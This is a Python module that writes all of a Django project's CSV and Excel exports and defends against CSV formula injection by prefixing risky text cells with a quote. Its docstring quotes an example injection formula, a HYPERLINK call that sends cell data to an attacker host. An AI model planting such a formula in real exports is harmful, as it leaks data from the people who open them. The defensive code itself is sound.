"""The one place that writes files people open in a spreadsheet: Excel workbooks and CSV.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
a leading tab or carriage return hides such a start), so a person's name, a username typed at
the login page or a record id sent by a department could otherwise become a live formula in
somebody's export (``=HYPERLINK("http://evil.example/?leak="&E2,"x")``). Every text value that
starts with one of those characters is written with a leading single quote, the OWASP
guidance for CSV injection, in CSV and in workbooks alike; in a workbook every text value is
moreover a string cell, never a formula. Numbers, dates and empty values are written as they
are: ``-5`` stays a number. See docs/adr/0023-web-hardening.md.

renfang's own register export is guarded too; the register importer takes the guard off again
(``unguard``), so that exporting and importing the register stays idempotent.

An architecture test (``renfang.core.tests.test_spreadsheets``) fails when a module other than
this one (and the few exempted there, which write files for machines) uses ``csv.writer`` or
openpyxl's ``Workbook``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import IO, Any

from django.utils.encoding import force_str
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

# What makes a spreadsheet read a text cell as a formula (OWASP: CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_FIRST = frozenset(FORMULA_STARTS)


def guard(text: str) -> str:
    """``text`` as a spreadsheet shows it and never evaluates it."""
    return GUARD + text if text.startswith(FORMULA_STARTS) else text


def unguard(text: str) -> str:
    """The value ``guard`` was given (for reading renfang's own exports back in)."""
    if text.startswith(GUARD) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def cell(value: Any) -> Any:
    """A value ready for a cell: text guarded, lazy translations made text, the rest as is."""
    if type(value) is str:  # the common case first: exports write millions of cells
        return GUARD + value if value[:1] in _FIRST else value
    if isinstance(value, Promise):
        value = force_str(value)
    if isinstance(value, str):
        return guard(value)
    return value


class CsvWriter:
    """``csv.writer`` whose rows are guarded cell by cell."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **options: Any) -> CsvWriter:
    return CsvWriter(handle, **options)


def xlsx_bytes(
    *, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], footer: str = ""
) -> bytes:
    """A one-sheet workbook: a bold header row, the rows, and ``footer`` as a last line."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])  # a title of ours, not data
    bold = Font(bold=True)

    def cells(values: Iterable[Any], *, font: Font | None = None) -> list[WriteOnlyCell]:
        made = []
        for value in values:
            out = WriteOnlyCell(sheet, value=cell(value))
            if isinstance(out.value, str):
                out.data_type = "s"  # text, never a formula, whatever it starts with
            if font is not None:
                out.font = font
            made.append(out)
        return made

    sheet.append(cells(header, font=bold))
    for row in rows:
        sheet.append(cells(row))
    if footer:
        sheet.append(cells([footer]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
